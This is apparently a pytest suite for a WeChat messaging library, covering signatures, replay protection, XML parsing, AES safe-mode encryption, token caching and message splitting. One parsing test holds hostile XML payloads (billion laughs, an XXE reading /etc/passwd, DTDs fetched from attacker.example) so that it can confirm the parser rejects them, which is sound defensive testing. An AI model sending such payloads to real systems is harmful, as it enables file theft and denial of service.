"""WeChat protocol library (kefu/wechat.py) against WeChat's published algorithms.

The expected values are computed here, independently of the implementation: signatures with
``hashlib.sha1`` over the sorted strings, safe-mode ciphertexts with a small reference of
WeChat's framing written below (AES-256-CBC, IV = key[:16], 16 random bytes + 4-byte big-endian
length + message + AppID, PKCS#7 to 32 bytes) on top of ``cryptography``.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import struct
import subprocess
import sys
import time
import xml.etree.ElementTree as ET

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from kefu.wechat import (
    AccessTokenCache,
    DecryptError,
    Deduplicator,
    MalformedMessage,
    MessageTooLarge,
    NonceCache,
    ReplayedRequest,
    SignatureError,
    StaleRequest,
    UnsafeXML,
    WeChatCrypto,
    WeChatProtocolError,
    parse_message,
    signature,
    split_for_wechat,
    text_reply,
    verify_request,
)

TOKEN = "kefuToken2024"
AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"  # 43 characters, as the console makes
APP_ID = "wx1234567890abcdef"
PREFIX = bytes(range(16))  # the "random" 16 bytes, fixed so ciphertexts are reproducible


# --- reference implementations, written from WeChat's documentation --------------------------


def ref_signature(*parts: str) -> str:
    return hashlib.sha1("".join(sorted(parts)).encode()).hexdigest()


def ref_key(encoding_aes_key: str = AES_KEY) -> bytes:
    return base64.b64decode(encoding_aes_key + "=")


def ref_aes(raw: bytes, key: bytes | None = None) -> str:
    """AES-256-CBC of ``raw`` (already padded), base64: WeChat's outer layer."""
    key = key or ref_key()
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(encryptor.update(raw) + encryptor.finalize()).decode()


def ref_frame(message: bytes, app_id: str = APP_ID, prefix: bytes = PREFIX) -> bytes:
    plain = prefix + struct.pack(">I", len(message)) + message + app_id.encode()
    pad = 32 - len(plain) % 32
    return plain + bytes([pad] * pad)


def ref_encrypt(message: bytes, app_id: str = APP_ID, prefix: bytes = PREFIX) -> str:
    return ref_aes(ref_frame(message, app_id, prefix))


def ref_decrypt(encrypt_b64: str) -> tuple[bytes, bytes, bytes]:
    """(random prefix, message, app id) of an ``Encrypt`` string."""
    key = ref_key()
    decryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).decryptor()
    plain = decryptor.update(base64.b64decode(encrypt_b64)) + decryptor.finalize()
    plain = plain[: -plain[-1]]
    (length,) = struct.unpack(">I", plain[16:20])
    return plain[:16], plain[20 : 20 + length], plain[20 + length :]


def text_xml(content: str = "你好", msg_id: str = "1234567890123456") -> bytes:
    return (
        "<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
        "<FromUserName><![CDATA[oUser123]]></FromUserName>"
        "<CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        f"<Content><![CDATA[{content}]]></Content><MsgId>{msg_id}</MsgId></xml>"
    ).encode()


def test_library_imports_without_rasa_or_a_web_framework():
    code = (
        "import sys, kefu.wechat; "
        "loaded = {'rasa', 'sanic', 'aiohttp', 'tensorflow'} & set(sys.modules); "
        "assert not loaded, loaded"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)


# --- signatures ------------------------------------------------------------------------------


def test_signature_is_sha1_of_the_sorted_strings():
    assert signature(TOKEN, "1700000000", "nonce42") == ref_signature(
        TOKEN, "1700000000", "nonce42"
    )
    # sorted, not in argument order: a plain concatenation gives another digest
    plain = hashlib.sha1(f"{TOKEN}1700000000nonce42".encode()).hexdigest()
    assert signature(TOKEN, "1700000000", "nonce42") != plain


def test_msg_signature_includes_the_encrypted_payload():
    expected = ref_signature(TOKEN, "1700000000", "n1", "CIPHERTEXT==")
    assert signature(TOKEN, "1700000000", "n1", "CIPHERTEXT==") == expected
    assert expected != ref_signature(TOKEN, "1700000000", "n1")


def test_good_signature_is_accepted():
    now = 1_700_000_000
    ts = str(now - 10)
    verify_request(TOKEN, ts, "abc", ref_signature(TOKEN, ts, "abc"), now=now)
    verify_request(TOKEN, ts, "abc", ref_signature(TOKEN, ts, "abc").upper(), now=now)


@pytest.mark.parametrize(
    "given",
    [
        ref_signature("otherToken", "1700000000", "abc"),
        ref_signature(TOKEN, "1700000001", "abc"),
        "",
        "not-hex-at-all",
        "签名",
    ],
)
def test_forged_signature_is_refused(given):
    with pytest.raises(SignatureError):
        verify_request(TOKEN, "1700000000", "abc", given, now=1_700_000_000)


def test_signature_check_uses_a_constant_time_comparison(monkeypatch):
    import kefu.wechat as wechat

    calls = []

    def spy(a, b):
        calls.append((a, b))
        return a == b

    monkeypatch.setattr(wechat.hmac, "compare_digest", spy)
    with pytest.raises(SignatureError):
        verify_request(TOKEN, "1700000000", "abc", "0" * 40, now=1_700_000_000)
    assert calls, "the signature was not compared with hmac.compare_digest"


@pytest.mark.parametrize("offset", [-301, 301, -86400])
def test_stale_timestamp_is_refused(offset):
    now = 1_700_000_000
    ts = str(now + offset)
    with pytest.raises(StaleRequest):
        verify_request(TOKEN, ts, "abc", ref_signature(TOKEN, ts, "abc"), now=now)


def test_timestamp_at_the_edge_of_the_window_is_accepted():
    now = 1_700_000_000
    for ts in (str(now - 300), str(now + 300)):
        verify_request(TOKEN, ts, "abc", ref_signature(TOKEN, ts, "abc"), now=now)


@pytest.mark.parametrize("ts", ["", "17e8", "yesterday", "1700000000.5"])
def test_timestamp_that_is_not_an_integer_is_refused(ts):
    with pytest.raises(StaleRequest):
        verify_request(TOKEN, ts, "abc", ref_signature(TOKEN, ts, "abc"), now=1_700_000_000)


def test_window_defaults_to_the_current_time():
    ts = str(int(time.time()))
    verify_request(TOKEN, ts, "abc", ref_signature(TOKEN, ts, "abc"))
    old = str(int(time.time()) - 3600)
    with pytest.raises(StaleRequest):
        verify_request(TOKEN, old, "abc", ref_signature(TOKEN, old, "abc"))


def test_echostr_handshake_is_signed_without_the_echostr():
    # WeChat's URL check: GET ?signature=&timestamp=&nonce=&echostr=, echostr not signed
    ts = str(int(time.time()))
    query = {"timestamp": ts, "nonce": "9876", "echostr": "5837397", "signature": ""}
    query["signature"] = ref_signature(TOKEN, ts, "9876")
    verify_request(TOKEN, query["timestamp"], query["nonce"], query["signature"])
    with pytest.raises(SignatureError):
        verify_request(TOKEN, ts, "9876", ref_signature(TOKEN, ts, "9876", "5837397"))


def test_replayed_request_is_refused_inside_the_window_only():
    cache = NonceCache(ttl_seconds=300)
    cache.check("1700000000", "n1", "sig", body=b"<xml/>", now=1000.0)
    with pytest.raises(ReplayedRequest) as same:
        cache.check("1700000000", "n1", "sig", body=b"<xml/>", now=1100.0)
    assert same.value.same_body
    with pytest.raises(ReplayedRequest) as other:
        cache.check("1700000000", "n1", "SIG", body=b"<xml>other</xml>", now=1200.0)
    assert not other.value.same_body
    cache.check("1700000000", "n2", "sig", body=b"<xml/>", now=1200.0)  # another nonce
    cache.check("1700000000", "n1", "sig", body=b"<xml/>", now=1301.0)  # window over


def test_nonce_cache_is_bounded():
    cache = NonceCache(ttl_seconds=300, max_entries=100)
    for n in range(1000):
        cache.check("1700000000", f"n{n}", "sig", now=1000.0)
    assert len(cache) == 100
    with pytest.raises(ReplayedRequest):
        cache.check("1700000000", "n999", "sig", now=1000.0)


def test_all_errors_share_one_base_class():
    for error in (SignatureError, StaleRequest, ReplayedRequest, MessageTooLarge):
        assert issubclass(error, WeChatProtocolError)
    for error in (MalformedMessage, UnsafeXML, DecryptError):
        assert issubclass(error, WeChatProtocolError)


# --- parsing ---------------------------------------------------------------------------------


def test_text_message_is_parsed():
    message = parse_message(text_xml("我想查一下订单 #123"))
    assert message.to_user == "gh_account"
    assert message.from_user == "oUser123"
    assert message.create_time == 1700000000
    assert message.msg_type == "text"
    assert message.content == "我想查一下订单 #123"
    assert message.msg_id == "1234567890123456"
    assert message.encrypt == ""
    with pytest.raises(AttributeError):
        message.content = "changed"  # frozen


def test_subscribe_event_is_parsed():
    body = (
        b"<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
        b"<FromUserName><![CDATA[oUser123]]></FromUserName><CreateTime>1700000001</CreateTime>"
        b"<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[subscribe]]></Event>"
        b"<EventKey><![CDATA[qrscene_42]]></EventKey></xml>"
    )
    message = parse_message(body)
    assert (message.msg_type, message.event, message.event_key) == (
        "event",
        "subscribe",
        "qrscene_42",
    )
    assert message.msg_id == ""
    assert message.dedup_key != parse_message(body.replace(b"1700000001", b"1700000002")).dedup_key


def test_dedup_keys_are_msgid_for_messages_and_sender_time_for_events():
    a = parse_message(text_xml("a", msg_id="111"))
    b = parse_message(text_xml("b", msg_id="111"))
    c = parse_message(text_xml("a", msg_id="112"))
    assert a.dedup_key == b.dedup_key != c.dedup_key


def test_cdata_end_marker_in_content_survives_a_round_trip():
    body = (
        b"<xml><ToUserName><![CDATA[gh]]></ToUserName><FromUserName><![CDATA[o1]]></FromUserName>"
        b"<CreateTime>1</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        b"<Content><![CDATA[a]]]]><![CDATA[>b]]></Content><MsgId>1</MsgId></xml>"
    )
    assert parse_message(body).content == "a]]>b"
    reply = text_reply("o1", "gh", "x]]><script>]]>y", 1700000000)
    root = ET.fromstring(reply)
    assert root.findtext("Content") == "x]]><script>]]>y"


def test_text_reply_has_wechats_fields():
    reply = text_reply("oUser123", "gh_account", "您好！Hello", 1700000000)
    assert reply.startswith("<xml><ToUserName><![CDATA[oUser123]]></ToUserName>")
    assert "<MsgType><![CDATA[text]]></MsgType>" in reply
    root = ET.fromstring(reply)
    assert root.tag == "xml"
    assert root.findtext("ToUserName") == "oUser123"
    assert root.findtext("FromUserName") == "gh_account"
    assert root.findtext("CreateTime") == "1700000000"
    assert root.findtext("Content") == "您好！Hello"


def test_text_reply_drops_characters_xml_cannot_carry():
    root = ET.fromstring(text_reply("o", "gh", "a\x00b\x1bc\nd", 1))
    assert root.findtext("Content") == "abc\nd"


def test_body_larger_than_the_limit_is_refused():
    body = text_xml("好" * 100)
    assert parse_message(body, max_bytes=len(body)).content == "好" * 100
    with pytest.raises(MessageTooLarge):
        parse_message(body, max_bytes=len(body) - 1)
    with pytest.raises(MessageTooLarge):
        parse_message(text_xml("x" * 70000))  # default limit 64 KiB


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName>"
    b"<CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&lol9;</Content></xml>"
)


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1"
        b"</CreateTime><MsgType>text</MsgType><Content>&xxe;</Content></xml>",
        b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><ToUserName>gh'
        b"</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>"
        b"<MsgType>text</MsgType><Content>x</Content></xml>",
        b"<!DOCTYPE xml><xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName>"
        b"<CreateTime>1</CreateTime><MsgType>text</MsgType><Content>x</Content></xml>",
        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml/>',
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "plain-doctype", "param-entity"],
)
def test_dtds_and_entities_are_refused_before_expansion(body):
    started = time.perf_counter()
    with pytest.raises(UnsafeXML):
        parse_message(body)
    assert time.perf_counter() - started < 1.0  # refused, not expanded (10**9 "lol"s)
    assert issubclass(UnsafeXML, MalformedMessage)


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml", b"<xml><ToUserName>gh</xml>", b"<xml>", "<xml>é</xml>".encode("latin-1")],
)
def test_malformed_xml_is_refused(body):
    with pytest.raises(MalformedMessage):
        parse_message(body)


def test_root_element_must_be_xml():
    with pytest.raises(MalformedMessage):
        parse_message(text_xml().replace(b"<xml>", b"<msg>").replace(b"</xml>", b"</msg>"))


@pytest.mark.parametrize("field", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_missing_required_field_is_refused(field):
    root = ET.fromstring(text_xml())
    root.remove(root.find(field))
    with pytest.raises(MalformedMessage, match=field):
        parse_message(ET.tostring(root))


def test_text_without_content_and_event_without_event_are_refused():
    root = ET.fromstring(text_xml())
    root.remove(root.find("Content"))
    with pytest.raises(MalformedMessage, match="Content"):
        parse_message(ET.tostring(root))
    event = text_xml().replace(b"<![CDATA[text]]>", b"<![CDATA[event]]>")
    with pytest.raises(MalformedMessage, match="Event"):
        parse_message(event)


def test_create_time_must_be_an_integer():
    with pytest.raises(MalformedMessage, match="CreateTime"):
        parse_message(text_xml().replace(b"1700000000", b"soon"))


def test_safe_mode_envelope_has_only_the_encrypted_payload():
    envelope = (
        b"<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
        b"<Encrypt><![CDATA[QUJD]]></Encrypt></xml>"
    )
    message = parse_message(envelope)
    assert message.encrypt == "QUJD"
    assert message.to_user == "gh_account"
    assert (message.from_user, message.msg_type, message.content) == ("", "", "")


# --- safe mode -------------------------------------------------------------------------------


def test_encryption_matches_the_reference_byte_for_byte():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    message = text_xml("加密的消息")
    assert crypto.encrypt(message, random_prefix=PREFIX) == ref_encrypt(message)


def test_ciphertexts_are_padded_to_32_byte_blocks():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    for size in range(0, 70):
        raw = base64.b64decode(crypto.encrypt(b"x" * size, random_prefix=PREFIX))
        assert len(raw) % 32 == 0
        # 16 + 4 + size + 18 bytes of AppID, then 1..32 bytes of padding
        assert 0 < len(raw) - (16 + 4 + size + len(APP_ID)) <= 32


def test_aes_round_trip_both_ways():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    message = text_xml("往返 round trip ]]> 🎉")
    assert crypto.decrypt(ref_encrypt(message)) == message
    prefix, inner, app_id = ref_decrypt(crypto.encrypt(message))
    assert (inner, app_id) == (message, APP_ID.encode())
    assert len(prefix) == 16


def test_random_prefix_is_fresh_for_every_message():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    first, second = crypto.encrypt(b"same"), crypto.encrypt(b"same")
    assert first != second
    assert ref_decrypt(first)[0] != ref_decrypt(second)[0]
    assert crypto.decrypt(first) == crypto.decrypt(second) == b"same"


def test_message_for_another_app_id_is_refused():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    with pytest.raises(DecryptError, match="AppID"):
        crypto.decrypt(ref_encrypt(b"<xml/>", app_id="wxffffffffffffffff"))
    with pytest.raises(DecryptError):
        crypto.decrypt(ref_encrypt(b"<xml/>", app_id=APP_ID + "x"))


def test_bad_padding_is_refused():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    good = ref_frame(b"<xml/>")
    pad = good[-1]
    inconsistent = good[:-2] + bytes([pad ^ 1, pad])  # last byte right, the one before wrong
    zero = good[:-1] + b"\x00"
    too_big = good[:-1] + bytes([33])
    for raw in (inconsistent, zero, too_big):
        with pytest.raises(DecryptError, match="padding"):
            crypto.decrypt(ref_aes(raw))


def test_length_field_beyond_the_plaintext_is_refused():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    frame = bytearray(ref_frame(b"<xml/>"))
    frame[16:20] = struct.pack(">I", 10_000)
    with pytest.raises(DecryptError, match="length"):
        crypto.decrypt(ref_aes(bytes(frame)))


@pytest.mark.parametrize("payload", ["", "***not base64***", base64.b64encode(b"x" * 17).decode()])
def test_ciphertext_that_is_not_base64_whole_blocks_is_refused(payload):
    with pytest.raises(DecryptError):
        WeChatCrypto(TOKEN, AES_KEY, APP_ID).decrypt(payload)


def test_ciphertext_under_another_key_does_not_decrypt():
    other_key = ref_key("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg")
    ciphertext = ref_aes(ref_frame(b"<xml/>"), key=other_key)
    with pytest.raises(DecryptError):
        WeChatCrypto(TOKEN, AES_KEY, APP_ID).decrypt(ciphertext)


@pytest.mark.parametrize("key", [AES_KEY[:-1], AES_KEY + "H", "", AES_KEY[:-1] + "!"])
def test_wrong_key_length_or_alphabet_is_a_clear_error(key):
    with pytest.raises(ValueError, match="encoding_aes_key"):
        WeChatCrypto(TOKEN, key, APP_ID)


def test_encrypted_reply_envelope_is_signed_and_decrypts():
    crypto = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
    reply = text_reply("oUser123", "gh_account", "已收到", 1700000000)
    envelope = crypto.encrypt_reply(reply, "1700000005", "778899", random_prefix=PREFIX)
    root = ET.fromstring(envelope)
    encrypt = root.findtext("Encrypt")
    assert encrypt == ref_encrypt(reply.encode())
    assert root.findtext("MsgSignature") == ref_signature(TOKEN, "1700000005", "778899", encrypt)
    assert root.findtext("TimeStamp") == "1700000005"
    assert root.findtext("Nonce") == "778899"
    assert ref_decrypt(encrypt)[1].decode() == reply


# --- retries ---------------------------------------------------------------------------------


def test_deduplicator_spots_retries_within_the_ttl():
    dedup = Deduplicator(ttl_seconds=60)
    assert dedup.first_time("msg:1", now=0.0)
    assert not dedup.first_time("msg:1", now=5.0)
    assert not dedup.first_time("msg:1", now=59.0)
    assert dedup.first_time("msg:2", now=59.0)
    assert dedup.first_time("msg:1", now=60.5)  # expired: a new message


def test_deduplicator_is_bounded():
    dedup = Deduplicator(ttl_seconds=60, max_entries=10)
    for n in range(100):
        assert dedup.first_time(f"msg:{n}", now=1.0)
    assert len(dedup) == 10
    assert not dedup.first_time("msg:99", now=2.0)
    assert dedup.first_time("msg:0", now=2.0)  # pushed out by newer keys


def test_deduplicator_forgets_expired_keys():
    dedup = Deduplicator(ttl_seconds=1)
    for n in range(50):
        dedup.first_time(f"msg:{n}", now=float(n))
    assert len(dedup) <= 2


# --- access token ----------------------------------------------------------------------------


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


class TokenServer:
    def __init__(self, expires_in: float = 7200, delay: float = 0.0) -> None:
        self.calls = 0
        self.expires_in = expires_in
        self.delay = delay

    async def fetch(self) -> tuple[str, float]:
        self.calls += 1
        number = self.calls
        await asyncio.sleep(self.delay)
        return f"token-{number}", self.expires_in


async def test_concurrent_callers_share_one_fetch():
    server = TokenServer(delay=0.05)
    cache = AccessTokenCache(server.fetch)
    tokens = await asyncio.gather(*(cache.get() for _ in range(10)))
    assert tokens == ["token-1"] * 10
    assert server.calls == 1
    assert await cache.get() == "token-1"
    assert server.calls == 1


async def test_token_is_refreshed_300_seconds_before_expiry():
    server, clock = TokenServer(expires_in=7200), FakeClock()
    cache = AccessTokenCache(server.fetch, clock=clock)
    assert await cache.get() == "token-1"
    clock.now += 7200 - 301
    assert await cache.get() == "token-1"
    clock.now += 2  # 299 s left: refresh now, not when WeChat rejects it
    assert await cache.get() == "token-2"
    assert server.calls == 2


async def test_short_lived_token_is_still_cached():
    server, clock = TokenServer(expires_in=200), FakeClock()
    cache = AccessTokenCache(server.fetch, clock=clock)
    await cache.get()
    clock.now += 50
    assert await cache.get() == "token-1"
    assert server.calls == 1


async def test_invalidate_drops_the_current_token_only():
    server = TokenServer()
    cache = AccessTokenCache(server.fetch)
    first = await cache.get()
    cache.invalidate(first)
    second = await cache.get()
    assert second == "token-2"
    cache.invalidate(first)  # a late caller reporting the old token: keep the new one
    assert await cache.get() == "token-2"
    assert server.calls == 2


async def test_failed_fetch_propagates_and_the_next_call_retries():
    calls = 0

    async def flaky() -> tuple[str, float]:
        nonlocal calls
        calls += 1
        if calls == 1:
            raise ConnectionError("WeChat unreachable")
        return "token-ok", 7200

    cache = AccessTokenCache(flaky)
    with pytest.raises(ConnectionError):
        await cache.get()
    assert await cache.get() == "token-ok"


# --- splitting -------------------------------------------------------------------------------


def test_short_text_is_one_part():
    assert split_for_wechat("您好") == ["您好"]
    assert split_for_wechat("") == []
    assert split_for_wechat("\n\n") == []


def test_chinese_text_is_cut_within_2048_bytes_and_loses_nothing():
    text = "这款手机支持双卡双待和五年质保，" * 300  # 48 bytes a sentence, no line breaks
    parts = split_for_wechat(text)
    assert len(parts) > 1
    assert all(len(part.encode("utf-8")) <= 2048 for part in parts)
    assert "".join(parts) == text


def test_cuts_never_fall_inside_a_character():
    text = "好" * 700 + "🎉" * 300 + "é" * 500  # 3-, 4- and 2-byte characters
    for limit in (5, 7, 100, 2048):
        parts = split_for_wechat(text, limit=limit)
        assert all(0 < len(part.encode("utf-8")) <= limit for part in parts)
        assert "".join(parts) == text


def test_cuts_at_line_breaks_where_possible():
    lines = [f"第{n}行：订单商品明细 item details" for n in range(200)]
    parts = split_for_wechat("\n".join(lines))
    assert len(parts) > 1
    for part in parts:
        assert len(part.encode("utf-8")) <= 2048
        assert all(line in lines for line in part.split("\n"))  # only whole lines
    assert "\n".join(parts) == "\n".join(lines)


def test_exactly_the_limit_is_one_part():
    text = "好" * 682 + "ab"  # 2046 + 2 bytes
    assert len(text.encode()) == 2048
    assert split_for_wechat(text) == [text]
    assert len(split_for_wechat(text + "c")) == 2
